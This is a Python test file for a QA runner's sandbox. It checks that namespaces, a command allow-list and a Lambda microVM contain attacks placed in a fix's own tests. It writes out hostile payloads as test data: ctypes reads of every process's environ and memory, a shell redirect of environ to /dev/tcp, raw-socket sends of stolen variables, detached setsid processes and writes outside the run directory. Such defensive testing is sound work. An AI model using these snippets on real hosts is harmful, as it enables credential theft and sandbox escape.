"""Attacks on the QA runner from inside a fix's own test file, and from the test command.

Which layer stops what, honestly:
- the test command (`python -S -c ...`, any interpreter flag, any other program) is refused by
  the allow-list before anything runs, in QA and again in the runner;
- code inside the fix or its tests bypasses the Python audit-hook guard at will (ctypes,
  `_posixsubprocess`); what contains it locally is the namespaces: no process of the host in
  /proc, no network but a down loopback, every mount read-only but the run's own directory,
  an unprivileged user without capabilities, and a pid namespace that dies with the run.
- In Lambda there are no namespaces: the boundary is the runner function (its own microVM per
  run, a role that may only write logs, a VPC with no route out). These tests cannot exercise a
  microVM; the template tests check the role, the tenancy and the routes.

Each attack also runs once with the namespaces removed (`guard_only`), to show the test sees the
leak when the layer that should stop it is missing.
"""

from __future__ import annotations

import shutil
import socket
import tempfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from lambdas.qa_runner import sandbox
from lambdas.qa_runner.logic import run_bundle
from selfheal_core.qa_run import ISOLATION_UNAVAILABLE, RunBundle, RunStep

from .harness import CANARY, bundle_for, everything_returned, processes_with, run_in_runner_process

pytestmark = pytest.mark.skipif(not sandbox.namespace_prefix(), reason="needs unshare (root, util-linux)")

STEAL_ENVIRON = "for env in all_environs():\n    print('ENV', env.replace(chr(0), ' '))"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    sock.settimeout(0.5)
    yield sock
    sock.close()


def received(sock: socket.socket) -> bytes:
    """Whatever reached the listener (the run is over by now, so a connection would be queued)."""
    try:
        conn, _ = sock.accept()
    except TimeoutError:
        return b""
    with conn:
        conn.settimeout(1)
        try:
            return conn.recv(65536) or b"<connected>"
        except TimeoutError:
            return b"<connected>"


# ------------------------------------------------------------------ the command itself


@pytest.mark.parametrize(
    "argv",
    [
        ["python", "-S", "-c", "print(open('/proc/1/environ').read())"],
        ["python", "-I", "-m", "pytest"],
        ["python", "-E", "-m", "pytest"],
        ["python", "-m", "pytest", "-p", "evil_plugin"],
        ["python", "-m", "pytest", "--rootdir=/"],
        ["sh", "-c", "cat /proc/$PPID/environ"],
    ],
)
def test_the_runner_refuses_any_command_but_pytest_with_paths_q_x_k(argv: list[str]) -> None:
    # Given a bundle that carries an interpreter flag, a plugin, an option or another program
    bundle = RunBundle(files={"a.py": "x = 1\n"}, steps=[RunStep(check="tests", argv=argv)])

    # When the runner receives it (whoever built it)
    reply = run_in_runner_process(bundle)

    # Then nothing ran and the reason names the command
    assert reply.refused and ("not allowed" in reply.refused or "must be 'python -m pytest'" in reply.refused)
    assert reply.steps == []
    assert CANARY not in everything_returned(reply)


# ------------------------------------------------------------------ reading credentials


@pytest.mark.parametrize(
    "attack",
    [
        STEAL_ENVIRON,  # ctypes libc open/read of every /proc/<pid>/environ
        "import sys\nfork_exec(['/bin/sh', '-c', 'cat /proc/[0-9]*/environ | tr \"\\\\0\" \" \"'])\nsys.stdout.flush()",
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) != os.getpid() and libc.open(f'/proc/{pid}/mem'.encode(), 0) >= 0:\n"
        "        print('MEM' + '_OPEN', pid, native_read(f'/proc/{pid}/environ'))",  # marker not in the source shown
    ],
    ids=["ctypes-environ", "posixsubprocess-cat", "proc-mem"],
)
def test_code_in_a_test_cannot_read_the_runners_credentials(attack: str) -> None:
    # Given a fix whose test reads process environments and memory around the guard
    # When the runner (a process with credentials in its environment) runs it
    reply = run_in_runner_process(bundle_for(attack))

    # Then it ran, in namespaces, and nothing it could print carries the runner's credentials
    assert reply.isolation == "namespaces" and reply.steps, reply
    returned = everything_returned(reply)
    assert CANARY not in returned
    assert "MEM_OPEN" not in returned


def test_without_namespaces_the_same_read_would_leak(tmp_path: Path) -> None:
    # Given the runner with only the Python guard (as in Lambda, minus the microVM and role)
    # When the ctypes attack runs
    reply = run_in_runner_process(bundle_for(STEAL_ENVIRON), guard_only=True)

    # Then the canary comes back: this is what the namespaces (locally) and the runner's own
    # microVM with a log-only role (in Lambda) are for
    assert CANARY in everything_returned(reply)


# ------------------------------------------------------------------ the network


@pytest.mark.parametrize(
    "attack",
    [
        # ctypes libc socket/connect/send: no audit event
        "import struct\n"
        "fd = libc.socket(2, 1, 0)\n"
        "addr = struct.pack('!HH4s8x', 2, PORT, bytes([127, 0, 0, 1]))\n"
        "addr = struct.pack('=H', 2) + addr[2:]\n"
        "rc = libc.connect(fd, addr, len(addr))\n"
        "libc.send(fd, b'LOOT ' + str(all_environs()).encode()[:60000], 60000, 0)\n"
        "print('CONNECT', rc)",
        # a program started around the guard
        "fork_exec(['/bin/sh', '-c', 'cat /proc/self/environ > /dev/tcp/127.0.0.1/PORT'])",
    ],
    ids=["ctypes-socket", "posixsubprocess-shell"],
)
def test_nothing_reaches_a_socket_on_the_host(listener: socket.socket, attack: str) -> None:
    port = listener.getsockname()[1]

    # Given a fix whose test connects to a listener on the host's loopback
    reply = run_in_runner_process(bundle_for(attack.replace("PORT", str(port))))

    # Then the run happened but nothing arrived
    assert reply.isolation == "namespaces" and reply.steps
    assert received(listener) == b""


def test_without_namespaces_the_socket_would_receive(listener: socket.socket) -> None:
    attack = (
        "import struct\nfd = libc.socket(2, 1, 0)\n"
        "addr = struct.pack('=H', 2) + struct.pack('!H4s8x', PORT, bytes([127, 0, 0, 1]))\n"
        "libc.connect(fd, addr, len(addr))\nlibc.send(fd, b'LOOT', 4, 0)\n"
    )
    reply = run_in_runner_process(bundle_for(attack.replace("PORT", str(listener.getsockname()[1]))), guard_only=True)

    assert reply.steps
    assert received(listener) == b"LOOT"


# ------------------------------------------------------------------ processes


def test_a_double_forked_setsid_child_does_not_outlive_the_run() -> None:
    # Given a fix whose test leaves a detached grandchild in a new session (no audit event: libc system)
    marker = f"{time.time_ns() % 997}.{uuid.uuid4().int % 10**6}"
    attack = (
        f"libc.system(b\"setsid sh -c 'sleep {marker}' > /dev/null 2>&1 < /dev/null &\")\n"
        f"fork_exec(['/bin/sh', '-c', 'setsid sleep {marker}.5 > /dev/null 2>&1 < /dev/null &'])"
    )

    # When the run is over
    reply = run_in_runner_process(bundle_for(attack))

    # Then no process of it is left on the host
    assert reply.isolation == "namespaces" and reply.steps
    time.sleep(0.2)  # let the kernel finish tearing the namespace down (not a timing assertion)
    assert processes_with(f"sleep {marker}") == []


# ------------------------------------------------------------------ the file system


@pytest.fixture
def victim_dir() -> Iterator[Path]:
    """A directory anyone may write to, outside the run: only the read-only mounts protect it."""
    path = Path(tempfile.mkdtemp(prefix="selfheal-victim-"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_writes_outside_the_work_directory_do_not_land(victim_dir: Path) -> None:
    marker = f"/tmp/selfheal-marker-{uuid.uuid4().hex}"
    shared = [f"/dev/shm/selfheal-marker-{uuid.uuid4().hex}", f"/var/tmp/selfheal-marker-{uuid.uuid4().hex}"]
    attack = (
        f"print('TMP', native_write('{marker}'))\n"
        f"print('SHARED', [native_write(p) for p in {shared!r}])\n"
        f"print('VICTIM', native_write('{victim_dir}/planted.py'))\n"
        "print('SIBLING', native_write('../original/app.py', b'VALUE = 2'))\n"
        "os.makedirs('../original', exist_ok=True)\n"
    )

    # Given a fix whose test writes to /tmp, /dev/shm, /var/tmp, a world-writable directory and a sibling tree
    reply = run_in_runner_process(bundle_for(attack))

    # Then it ran and none of the writes landed
    assert reply.isolation == "namespaces" and reply.steps
    assert not Path(marker).exists()
    assert not [p for p in shared if Path(p).exists()]
    assert list(victim_dir.iterdir()) == []
    assert "TMP True" not in everything_returned(reply)


def test_without_namespaces_the_write_would_land(victim_dir: Path) -> None:
    reply = run_in_runner_process(bundle_for(f"native_write('{victim_dir}/planted.py')"), guard_only=True)

    assert reply.steps
    assert (victim_dir / "planted.py").exists()


# ------------------------------------------------------------------ no isolation, no run


def test_without_isolation_code_validation_is_refused_unless_opted_in(monkeypatch: pytest.MonkeyPatch) -> None:
    # Given a runner that has neither namespaces nor a microVM
    bundle = bundle_for("print('ran')")
    monkeypatch.delenv("SELFHEAL_ALLOW_UNISOLATED_QA", raising=False)

    # When it receives a bundle
    reply = run_bundle(bundle.model_dump(mode="json"), mode=lambda: "none")

    # Then it runs nothing and says why
    assert reply["refused"] == ISOLATION_UNAVAILABLE and reply["steps"] == [] and reply["isolation"] == "none"

    # And with the local opt-in it runs, and says it ran without isolation
    monkeypatch.setenv("SELFHEAL_ALLOW_UNISOLATED_QA", "true")
    monkeypatch.setattr(sandbox, "namespace_prefix", lambda: ())
    opted_in = run_bundle(bundle.model_dump(mode="json"), mode=lambda: "none")
    assert opted_in["refused"] is None and opted_in["isolation"] == "none" and opted_in["steps"]


def test_the_isolation_mode_is_what_the_platform_provides(monkeypatch: pytest.MonkeyPatch) -> None:
    # Given no namespaces
    monkeypatch.setattr(sandbox, "namespace_prefix", lambda: ())
    # When running in a real Lambda environment (no local runtime marker): a microVM
    monkeypatch.setenv("AWS_LAMBDA_FUNCTION_NAME", "selfheal-dev-qa-runner")
    monkeypatch.delenv("SELFHEAL_LOCAL_FUNCTION_ARN", raising=False)
    assert sandbox.isolation_mode() == "microvm"
    # When running as a local runtime worker (which also sets the Lambda variables): none
    monkeypatch.setenv("SELFHEAL_LOCAL_FUNCTION_ARN", "arn:aws:lambda:us-east-1:123456789012:function:x")
    assert sandbox.isolation_mode() == "none"
    # And with namespaces: namespaces, wherever it runs
    monkeypatch.setattr(sandbox, "namespace_prefix", lambda: ("unshare",))
    assert sandbox.isolation_mode() == "namespaces"
